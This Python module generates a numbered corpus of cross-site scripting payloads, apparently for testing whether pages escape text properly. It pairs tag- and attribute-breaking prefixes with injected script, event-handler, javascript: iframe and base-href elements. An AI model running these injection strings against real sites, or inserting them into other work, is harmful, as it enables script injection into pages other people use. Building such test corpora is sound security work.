"""Two hundred texts that would be programs wherever a page forgets that they are words, each with its number."""

from collections.abc import Iterator
from itertools import product
from pathlib import Path

DRAWN = {"␉": "\t", "␊": "\n", "␨": "\u2028"}
# What would end the place where the words stand: attributes, boxes, titles, comments, scripts, templates.
ENDS = (
    *('">', "'>", "</textarea>", "</title>", "</option></select>", "</template>", "</style>", "</script>", "-->"),
    *("</p></main>", '\\">', "&quot;>", "%22>", "\\u0022>", "]]>", "*/"),
)
AFTER_AN_END = ("<script>alert({n})</script>", "<img src=x onerror=alert({n})>", "<svg onload=alert({n})>")
AFTER_AN_END += (
    "<details open ontoggle=alert({n})>",
    "<iframe src=javascript:parent.alert({n})>",
    "<base href=//x.example/{n}/>",
)
IN_A_TAG = ("onfocus=alert({n}) autofocus x=", "onmouseover=alert({n}) style=position:fixed;inset:0 x=")
BESIDE_A_VALUE = ('" ', "' ", '"\t', "x ", '"/', "'\f")


def payloads() -> Iterator[str]:
    """Each calls alert with a number of its own, so that a page that runs one says which."""
    file = Path(__file__).with_name("scripts.txt").read_text(encoding="utf-8")
    every = [line for line in file.splitlines() if not line.startswith("# ")]
    every += [end + element for end, element in product(ENDS, AFTER_AN_END)]
    every += [beside + attribute for beside, attribute in product(BESIDE_A_VALUE, IN_A_TAG)]
    for number, text in enumerate(every):
        yield undrawn(text).replace("{n}", f"7{number:03}")


def undrawn(text: str) -> str:
    """The characters that a text file cannot show, in the place of their pictures."""
    for picture, character in DRAWN.items():
        text = text.replace(picture, character)
    return text
